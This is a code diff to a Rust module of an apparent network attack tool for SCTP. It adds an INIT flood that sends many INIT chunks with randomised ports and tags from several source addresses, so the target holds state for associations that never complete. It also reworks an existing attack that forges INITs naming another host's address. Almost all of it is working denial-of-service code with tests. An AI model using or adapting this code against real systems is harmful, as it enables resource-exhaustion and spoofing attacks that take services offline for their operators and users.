@@ -4,7 +4,9 @@
 //! ```text
 //!   INIT (address of the other) ─→   INIT ACK ←─   COOKIE ECHO ─→   and the next one
 //! ```
+//! Or INITs alone, each as if from another peer: what is kept for them is memory that nobody asks back.
 
+use crate::datagrams;
 use crate::sockets::{Numbers, Pace, SocketAttack};
 use std::net::{Ipv4Addr, UdpSocket};
 use std::time::Duration;
@@ -55,15 +57,17 @@ fn packet(port: u16, tag: u32, kind: u8, value: &[u8]) -> Vec<u8> {
     out
 }
 
-/// An INIT that names `other` as an address of its sender.
-fn init(port: u16, tag: u32, other: Ipv4Addr) -> Vec<u8> {
+/// An INIT, that names `other` as an address of its sender where there is one.
+fn init(port: u16, tag: u32, other: Option<Ipv4Addr>) -> Vec<u8> {
     let mut value = Vec::with_capacity(32);
     value.extend_from_slice(&tag.to_be_bytes());
     value.extend_from_slice(&65_536u32.to_be_bytes()); // window
     value.extend_from_slice(&[0, 10, 0, 10]); // streams
     value.extend_from_slice(&tag.to_be_bytes()); // first TSN
-    value.extend_from_slice(&[0, 5, 0, 8]); // IPv4 Address
-    value.extend_from_slice(&other.octets());
+    if let Some(other) = other {
+        value.extend_from_slice(&[0, 5, 0, 8]); // IPv4 Address
+        value.extend_from_slice(&other.octets());
+    }
     packet(port, 0, INIT, &value)
 }
 
@@ -86,6 +90,21 @@ fn answer(packet: &[u8]) -> Option<(u32, &[u8])> {
     }
 }
 
+/// Source port and Initiate Tag of an association.
+fn names(random: &mut Numbers) -> (u16, u32) {
+    let [high, low, ..] = random.next().to_be_bytes();
+    (u16::from_be_bytes([high | 0x80, low]), u32::from_be_bytes([high, low, 1, 1]))
+}
+
+/// INITs alone.
+pub(crate) fn flood(attack: &SocketAttack, pace: &mut Pace) -> anyhow::Result<()> {
+    let mut random = Numbers::new(8);
+    datagrams::send(attack, pace, |_, _, out| {
+        let (port, tag) = names(&mut random);
+        out.extend_from_slice(&init(port, tag, None));
+    })
+}
+
 pub(crate) fn run(attack: &SocketAttack, pace: &mut Pace) -> anyhow::Result<()> {
     let other = *attack.other()?.ip();
     let mut random = Numbers::new(5);
@@ -95,10 +114,8 @@ pub(crate) fn run(attack: &SocketAttack, pace: &mut Pace) -> anyhow::Result<()> 
             let source = attack.sources.pick(random.next());
             let socket = UdpSocket::bind((source, 0))?;
             socket.set_read_timeout(Some(PATIENCE))?;
-            let [high, low, ..] = random.next().to_be_bytes();
-            let port = u16::from_be_bytes([high | 0x80, low]);
-            let tag = u32::from_be_bytes([high, low, 1, 1]);
-            let first = init(port, tag, other);
+            let (port, tag) = names(&mut random);
+            let first = init(port, tag, Some(other));
             if socket.send_to(&first, attack.target).is_err() {
                 continue;
             }
@@ -124,7 +141,7 @@ mod tests {
     #[test]
     fn the_greeting_names_an_address_that_is_not_its_own() {
         let other = Ipv4Addr::new(127, 0, 0, 21);
-        let bytes = init(40_000, 77, other);
+        let bytes = init(40_000, 77, Some(other));
         let packet = Packet::read(&bytes).unwrap();
         assert!(packet.checksum_holds());
         assert_eq!((packet.header.verification_tag, packet.header.source_port), (0, 40_000));
@@ -132,6 +149,21 @@ mod tests {
         let Chunk::Init(read) = Chunk::read(&raw).unwrap() else { panic!("an INIT") };
         let named: Vec<_> = read.parameters.iter().map(Result::unwrap).collect();
         assert_eq!(named, [Parameter::Address(other.into())]);
+    }
+
+    #[test]
+    fn a_flood_is_of_whole_greetings_that_differ() {
+        let (all, sources) = crate::datagrams::tests::arrived(crate::SocketKind::InitFlood);
+        let mut tags = std::collections::BTreeSet::new();
+        for bytes in &all {
+            let packet = Packet::read(bytes).unwrap();
+            assert!(packet.checksum_holds());
+            let raw = packet.chunks().next().unwrap().unwrap();
+            let Chunk::Init(read) = Chunk::read(&raw).unwrap() else { panic!("an INIT") };
+            assert_eq!(read.parameters.iter().count(), 0);
+            tags.insert((packet.header.source_port, read.initiate_tag));
+        }
+        assert!(tags.len() == all.len() && sources > 1, "{} of {}", tags.len(), all.len());
     }
 
     #[test]
